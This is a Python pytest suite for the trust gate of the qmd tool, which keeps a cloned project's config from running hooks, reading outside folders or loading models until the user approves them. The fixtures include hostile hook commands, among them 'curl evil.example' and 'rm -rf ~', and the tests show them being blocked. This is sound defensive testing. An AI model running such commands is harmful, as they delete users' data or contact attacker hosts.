"""The trust gate of project-local configs (`server/trust.py`): a cloned `.qmd`
runs nothing, reaches no folder outside the project and loads no model of its own
until its user approves exactly that set."""

from __future__ import annotations

import json
import os
import pty
import select
import stat
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import Daemon, Env, write
from test_mcp import INITIALIZE

from qmd.paths import IndexPaths, config_root
from qmd.server import trust
from qmd.server.config import Config, init_project
from qmd.server.engine import Engine
from qmd.server.errors import Conflict, InvalidInput
from qmd.server.ingest.indexer import Pace
from qmd.server.models.refs import DEFAULT_MODELS

CUSTOM_EMBED = "hf:someone/evil-GGUF/evil.gguf"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A HOME and config folder of this test's own: approvals land in its trusted.json."""
    home = tmp_path / "home"
    home.mkdir()
    for var in ("QMD_CONFIG_DIR", trust.TRUST_ALL_VAR, trust.TRUST_HOOKS_VAR, "QMD_EMBED_MODEL"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / ".cache"))
    monkeypatch.setenv("QMD_WATCH", "0")
    return home


def cloned(root: Path, marker: Path, outside: Path | None = None, models: dict[str, str] | None = None) -> Path:
    """A project as `git clone` leaves it: notes, and a `.qmd/index.yml` someone else wrote."""
    write(root, {"README.md": "# Project\n\nThe widget manual.\n", "docs/guide.md": "# Guide\n\nTurn the widget.\n"})
    colls: dict = {"docs": {"path": ".", "update": f"touch {marker}"}}
    if outside is not None:
        colls["secrets"] = {"path": str(outside)}
    cfg = {"collections": colls, **({"models": models} if models else {})}
    (root / ".qmd").mkdir(exist_ok=True)
    (root / ".qmd" / "index.yml").write_text(json.dumps(cfg), encoding="utf-8")
    return root


@pytest.fixture
def project(home: Path, tmp_path: Path) -> Path:
    return cloned(tmp_path / "repo", tmp_path / "hook-ran")


@pytest.fixture
def engine(project: Path) -> Iterator[Engine]:
    e = Engine(IndexPaths.for_project(project))
    yield e
    e.close()


def approve(e: Engine) -> trust.Approval:
    g = e.gate()
    return e.trust.approve(g, g.fingerprint)


def test_an_untrusted_hook_never_runs_and_in_project_indexing_continues(engine: Engine, tmp_path: Path) -> None:
    events: list[dict] = []
    [summary] = engine.update(progress=events.append).collections
    assert not (tmp_path / "hook-ran").exists()
    assert summary.new == 2  # `path: .` is the project folder, wherever it was cloned
    assert summary.warnings[0] == (
        "skipped: update command of collection docs (untrusted project config; run 'qmd trust')"
    )
    assert not [e for e in events if e["event"] == "hook"]
    assert engine.status().warnings == [summary.warnings[0]]


def test_approval_runs_the_hook_and_any_edit_asks_again(engine: Engine, project: Path, tmp_path: Path) -> None:
    approved = approve(engine)
    assert approved.root == str(project)
    assert approved.items == (f"update command of collection docs: touch {tmp_path / 'hook-ran'}",)
    [summary] = engine.update().collections
    assert (tmp_path / "hook-ran").exists() and not summary.warnings
    assert engine.status().warnings == []

    (tmp_path / "hook-ran").unlink()
    cfg_file = project / ".qmd" / "index.yml"
    cfg = json.loads(cfg_file.read_text())
    cfg["collections"]["docs"]["update"] = f"touch {tmp_path / 'hook-ran'}; curl evil.example"
    cfg_file.write_text(json.dumps(cfg))
    g = engine.gate()
    assert not g.approved and g.fingerprint != approved.fingerprint
    engine.update()
    assert not (tmp_path / "hook-ran").exists()


def test_an_edit_of_something_not_gated_keeps_the_approval(engine: Engine, project: Path) -> None:
    approve(engine)
    cfg_file = project / ".qmd" / "index.yml"
    cfg = json.loads(cfg_file.read_text())
    cfg["collections"]["docs"]["pattern"] = "**/*.txt"
    cfg["global_context"] = "Widgets"
    cfg_file.write_text(json.dumps(cfg))
    assert engine.gate().approved


def test_a_collection_outside_the_project_is_neither_indexed_nor_watched(home: Path, tmp_path: Path) -> None:
    outside = write(tmp_path / "private", {"diary.md": "# Diary\n\nMy secrets.\n"})
    root = cloned(tmp_path / "repo", tmp_path / "hook-ran", outside=outside)
    e = Engine(IndexPaths.for_project(root))
    try:
        events: list[dict] = []
        summaries = e.update(progress=events.append).collections
        assert [s.collection for s in summaries] == ["docs"]
        gated = [ev for ev in events if ev["event"] == "gated"]
        assert gated == [
            {
                "event": "gated",
                "collection": "secrets",
                "note": f"skipped: collection secrets at {outside}, outside the project "
                "(untrusted project config; run 'qmd trust')",
            }
        ]
        assert e.index_watched("secrets", None, Pace(threading.Event())) is None
        assert e.search("secrets").hits == []
        watch = next(c.watch for c in e.status().collections if c.name == "secrets")
        assert watch is not None and watch.mode == "off" and "outside the project" in watch.reason
        approve(e)
        assert [s.collection for s in e.update().collections] == ["docs", "secrets"]
        assert e.search("secrets").hits
    finally:
        e.close()


def test_a_symlink_out_of_the_project_is_outside(home: Path, tmp_path: Path) -> None:
    outside = write(tmp_path / "etc", {"passwd.md": "root\n"})
    root = cloned(tmp_path / "repo", tmp_path / "m")
    os.symlink(outside, root / "link")
    cfg = Config.from_yaml({"collections": {"l": {"path": "link"}, "d": {"path": "docs"}}}, root / "x", root)
    items = trust.gated_items(cfg, root, root / ".qmd", {})
    assert items == [trust.Gated("path", "l", str(outside))]


def test_a_project_model_falls_back_to_the_default_and_is_never_fetched(home: Path, tmp_path: Path) -> None:
    root = cloned(tmp_path / "repo", tmp_path / "m", models={"embed": CUSTOM_EMBED, "rerank": DEFAULT_MODELS["rerank"]})
    e = Engine(IndexPaths.for_project(root))
    try:
        g = e.gate()
        assert [(i.kind, i.name) for i in g.skipped] == [("update", "docs"), ("model", "embed")]  # rerank is default
        assert f"skipped: embed model {CUSTOM_EMBED} (untrusted project config: the default is used" in " ".join(
            e.status().warnings
        )
        resolved = e.models.resolved(e.usable_config())
        assert resolved["embed"].ref.uri == DEFAULT_MODELS["embed"] and resolved["embed"].source == "default"
        approve(e)
        assert e.models.resolved(e.usable_config())["embed"].ref.uri == CUSTOM_EMBED
    finally:
        e.close()


def test_the_users_own_model_choice_is_not_gated(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`qmd init` pre-fills the models as resolved, a QMD_EMBED_MODEL included: that is the
    user's own choice, not the project's."""
    monkeypatch.setenv("QMD_EMBED_MODEL", CUSTOM_EMBED)
    cfg = Config(models={"embed": CUSTOM_EMBED, "generate": DEFAULT_MODELS["generate"]})
    assert trust.gated_items(cfg, tmp_path, tmp_path / ".qmd") == []
    monkeypatch.delenv("QMD_EMBED_MODEL")
    assert [i.name for i in trust.gated_items(cfg, tmp_path, tmp_path / ".qmd")] == ["embed"]


def test_a_local_model_file_and_a_bad_model_setting_are_gated(tmp_path: Path) -> None:
    cfg = Config(models={"rerank": "./models/r.gguf", "generate": "ftp://nope"})
    items = trust.gated_items(cfg, tmp_path, tmp_path / ".qmd", {})
    assert items == [
        trust.Gated("model", "rerank", str(tmp_path / ".qmd" / "models" / "r.gguf")),
        trust.Gated("model", "generate", "ftp://nope"),
    ]


@pytest.mark.parametrize(
    ("env", "blocked"),
    [
        ({trust.TRUST_ALL_VAR: "1"}, []),
        ({trust.TRUST_HOOKS_VAR: "1"}, [("path", "secrets")]),
        ({trust.TRUST_ALL_VAR: "0", trust.TRUST_HOOKS_VAR: "false"}, [("update", "docs"), ("path", "secrets")]),
    ],
)
def test_the_environment_overrides(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, env: dict[str, str], blocked: list
) -> None:
    for var, value in env.items():
        monkeypatch.setenv(var, value)
    root = cloned(tmp_path / "repo", tmp_path / "hook-ran", outside=write(tmp_path / "out", {"a.md": "a\n"}))
    e = Engine(IndexPaths.for_project(root))
    try:
        assert sorted(e.gate().blocked) == sorted(blocked)
        e.update()
        assert (tmp_path / "hook-ran").exists() is (("update", "docs") not in blocked)
    finally:
        e.close()


def test_the_users_own_config_is_never_gated(home: Path, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    e = Engine(IndexPaths.resolve("work"))
    try:
        notes = write(tmp_path / "notes", {"a.md": "# A\n"})
        e.create_collection(str(notes), "notes")
        e.set_collection("notes", update_cmd=f"touch {marker}")
        assert e.gate() is trust.OPEN
        e.update()
        assert marker.exists()
    finally:
        e.close()


def test_the_trust_file_is_private_and_revocable(engine: Engine, project: Path) -> None:
    approve(engine)
    path = config_root() / trust.TRUST_FILE
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert engine.gate().approved
    assert engine.trust.revoke(project) is not None
    assert not engine.gate().approved
    assert engine.trust.revoke(project) is None


def test_approval_refuses_a_set_the_user_did_not_see(engine: Engine, project: Path) -> None:
    with pytest.raises(Conflict, match="changed since"):
        engine.trust.approve(engine.gate(), "0" * 64)
    assert not (config_root() / trust.TRUST_FILE).exists()


def test_nothing_to_approve_is_a_clear_error(home: Path, tmp_path: Path) -> None:
    root = write(tmp_path / "plain", {"a.md": "# A\n"})
    init_project(root, dict(DEFAULT_MODELS))
    e = Engine(IndexPaths.for_project(root))
    try:
        g = e.gate()
        assert g.items == () and g.blocked == frozenset()
        with pytest.raises(InvalidInput, match="no gated items"):
            e.trust.approve(g, g.fingerprint)
    finally:
        e.close()


def test_a_corrupt_trust_file_trusts_nothing_and_is_not_overwritten(engine: Engine, tmp_path: Path) -> None:
    path = config_root() / trust.TRUST_FILE
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("{not json")
    assert not engine.gate().approved
    engine.update()
    assert not (tmp_path / "hook-ran").exists()
    with pytest.raises(InvalidInput, match="not a valid trust file"):
        approve(engine)
    assert path.read_text() == "{not json"


# -- through the real CLI and daemon ---------------------------------------------------


def cloned_in(env: Env, outside: bool = False) -> tuple[Path, Path]:
    """A cloned project under the test's HOME, and the marker its hook would create."""
    marker = env.base / "hook-ran"
    out = write(env.base / "private", {"diary.md": "# Diary\n\nzanzibar secrets.\n"}) if outside else None
    return cloned(env.home / "repo", marker, outside=out), marker


def test_no_terminal_update_skips_the_hook_and_says_so(env: Env, daemon: Daemon) -> None:
    repo, marker = cloned_in(env, outside=True)
    r = env.qmd("update", cwd=repo / "docs")
    assert r.returncode == 0, r.stderr
    assert not marker.exists()
    assert "skipped: update command of collection docs (untrusted project config; run 'qmd trust')" in r.stderr
    assert "skipped: collection secrets at" in r.stderr and "Running update command" not in r.stdout
    assert "Indexed: 2 new" in r.stdout
    # never "all updated" over the collection left out, in text or JSON
    assert "All collections updated" not in r.stdout
    assert "⚠ 1 of 2 collections updated" in r.stdout and "1 not, as said above" in r.stdout
    report = env.json("update", "--json", cwd=repo)
    assert list(report["not_updated"]) == ["secrets"] and "outside the project" in report["not_updated"]["secrets"]
    assert env.ok("search", "zanzibar", "--files", cwd=repo).strip() == ""  # the outside folder was not read
    status = env.ok("status", cwd=repo)
    assert "⚠ skipped: update command of collection docs" in status
    assert env.json("status", "--json", cwd=repo)["warnings"][0].startswith("skipped: update command of")
    r = env.qmd("trust", cwd=repo)
    assert r.returncode == 1 and "asks at a terminal" in r.stderr
    assert f"update command of collection docs: touch {marker}" in r.stdout
    assert not (env.config / "qmd" / trust.TRUST_FILE).exists()


def test_the_daemons_environment_overrides(env: Env, tmp_path: Path) -> None:
    repo, marker = cloned_in(env, outside=True)
    d = Daemon(env, extra_env={trust.TRUST_HOOKS_VAR: "1"})
    env.vars["QMD_NO_AUTOSTART"] = "1"
    try:
        r = env.qmd("update", cwd=repo)
        assert marker.exists(), r.stderr
        assert "skipped: collection secrets" in r.stderr  # hooks only
    finally:
        d.stop()
    marker.unlink()
    d = Daemon(env, extra_env={trust.TRUST_ALL_VAR: "1"})
    try:
        r = env.qmd("update", cwd=repo)
        assert marker.exists() and "skipped" not in r.stderr
        assert "private/diary.md" in env.ok("search", "zanzibar", "--files", "--full-path", cwd=repo)
    finally:
        d.stop()


def on_a_terminal(env: Env, args: list[str], cwd: Path, answer: str, timeout: float = 60) -> tuple[int, str]:
    """Run the CLI under a pseudo-terminal, answer its question, return (exit code, output)."""
    pid, fd = pty.fork()
    if pid == 0:  # the child: become the CLI, with this installation's environment
        os.chdir(cwd)
        os.execve(sys.executable, [sys.executable, "-m", "qmd.client.cli", *args], env.vars)
    out = b""
    answered = False
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([fd], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(fd, 4096)
                except OSError:  # EIO: the child closed the terminal
                    break
                if not chunk:
                    break
                out += chunk
            if not answered and b"[y/N]" in out:
                os.write(fd, answer.encode() + b"\n")
                answered = True
        _, status = os.waitpid(pid, 0)
    finally:
        os.close(fd)
    return os.waitstatus_to_exitcode(status), out.decode("utf-8", "replace")


def test_on_a_terminal_no_skips_and_yes_approves(env: Env, daemon: Daemon) -> None:
    repo, marker = cloned_in(env)
    code, out = on_a_terminal(env, ["update"], repo, "n")
    assert code == 0, out
    assert f"update command of collection docs: touch {marker}" in out and "Not approved" in out
    assert not marker.exists()
    code, out = on_a_terminal(env, ["update"], repo / "docs", "y")
    assert code == 0 and "Approved" in out, out
    assert marker.exists()
    saved = json.loads((env.config / "qmd" / trust.TRUST_FILE).read_text())
    assert list(saved["projects"]) == [str(repo)]
    marker.unlink()
    assert "[y/N]" not in env.ok("update", cwd=repo)  # approved: no question, the hook runs
    assert marker.exists()


def test_trust_approve_list_edit_and_revoke(env: Env, daemon: Daemon) -> None:
    repo, marker = cloned_in(env)
    code, out = on_a_terminal(env, ["trust"], repo, "y")
    assert code == 0 and "Approved" in out, out
    assert "Approved for" in env.ok("trust", cwd=repo)
    listed = env.ok("trust", "list")
    assert f"{repo}  approved" in listed and f"update command of collection docs: touch {marker}" in listed

    cfg_file = repo / ".qmd" / "index.yml"
    cfg = json.loads(cfg_file.read_text())
    cfg["collections"]["docs"]["update"] = "rm -rf ~"
    cfg_file.write_text(json.dumps(cfg))
    assert f"{repo}  changed since (asks again)" in env.ok("trust", "list")
    r = env.qmd("update", cwd=repo)
    assert "skipped: update command of collection docs" in r.stderr

    assert "Revoked" in env.ok("trust", "revoke", str(repo / "docs"))  # a folder inside names its project
    assert env.ok("trust", "list").strip() == "No project config is approved."
    r = env.qmd("trust", "revoke", cwd=repo)
    assert r.returncode == 1 and "no approval is recorded" in r.stderr
    r = env.qmd("trust", "revoke")  # from HOME: no project here
    assert r.returncode == 1 and "not inside a qmd project" in r.stderr


def test_trust_with_nothing_gated_or_outside_a_project(env: Env, daemon: Daemon) -> None:
    repo = write(env.home / "plain", {"a.md": "# A\n"})
    env.ok("init", cwd=repo)
    assert "Nothing to approve" in env.ok("trust", cwd=repo)
    r = env.qmd("trust")
    assert r.returncode == 1 and "not inside a qmd project" in r.stderr
    r = env.qmd("--index", "work", "trust", cwd=repo)
    assert r.returncode == 1 and "never gated" in r.stderr


def test_an_approval_for_a_set_not_shown_is_refused(env: Env, daemon: Daemon) -> None:
    repo, _ = cloned_in(env)
    headers = {"x-qmd-project": str(repo)}
    shown = daemon.http.get("/v1/trust", headers=headers).json()
    assert shown["project"] == str(repo) and not shown["approved"]
    r = daemon.http.post("/v1/trust", json={"fingerprint": "f" * 64}, headers=headers)
    assert r.status_code == 409 and "changed since" in r.json()["error"]
    r = daemon.http.post("/v1/trust", json={"fingerprint": "nope"}, headers=headers)
    assert r.status_code == 400
    r = daemon.http.post("/v1/trust", json={"fingerprint": shown["fingerprint"]}, headers=headers)
    assert r.status_code == 200 and r.json()["root"] == str(repo)
    assert daemon.http.get("/v1/trust", headers=headers).json()["approved"]


@pytest.mark.slow
def test_mcp_in_a_cloned_project_serves_it_and_runs_no_hook(env: Env, daemon: Daemon) -> None:
    repo, marker = cloned_in(env)
    env.ok("update", cwd=repo)
    messages = [
        INITIALIZE,
        {"jsonrpc": "2.0", "method": "notifications/initialized"},
        {
            "jsonrpc": "2.0",
            "id": 2,
            "method": "tools/call",
            "params": {"name": "query", "arguments": {"searches": [{"type": "lex", "query": "widget"}]}},
        },
        {"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {"name": "status", "arguments": {}}},
    ]
    out = env.run(
        [sys.executable, "-m", "qmd.client.cli", "mcp"],
        cwd=repo / "docs",
        input="".join(json.dumps(m) + "\n" for m in messages),
    )
    answers = {m["id"]: m for m in map(json.loads, out.stdout.splitlines()) if "id" in m}
    assert "docs/guide.md" in answers[2]["result"]["content"][0]["text"], out
    assert "error" not in answers[3]
    assert "Not used: " in answers[3]["result"]["content"][0]["text"]  # the untrusted hook, said
    assert not marker.exists()


@pytest.mark.slow
def test_the_watcher_indexes_a_cloned_project_and_runs_no_hook(env: Env) -> None:
    repo, marker = cloned_in(env, outside=True)
    env.vars["QMD_WATCH"] = "1"
    d = Daemon(env)
    env.vars["QMD_NO_AUTOSTART"] = "1"
    try:
        env.ok("status", cwd=repo)  # opens the project's index, and its watcher
        write(repo, {"docs/new.md": "# New\n\nThe quokka appendix.\n"})
        write(env.base / "private", {"more.md": "# More\n\nquokka secrets.\n"})
        deadline = time.monotonic() + 30
        while "docs/new.md" not in env.ok("search", "quokka", "--files", cwd=repo):
            assert time.monotonic() < deadline, "the watcher did not index the new note"
            time.sleep(0.2)
        time.sleep(1)
        assert "more.md" not in env.ok("search", "quokka", "--files", cwd=repo)
        assert not marker.exists()
    finally:
        d.stop()
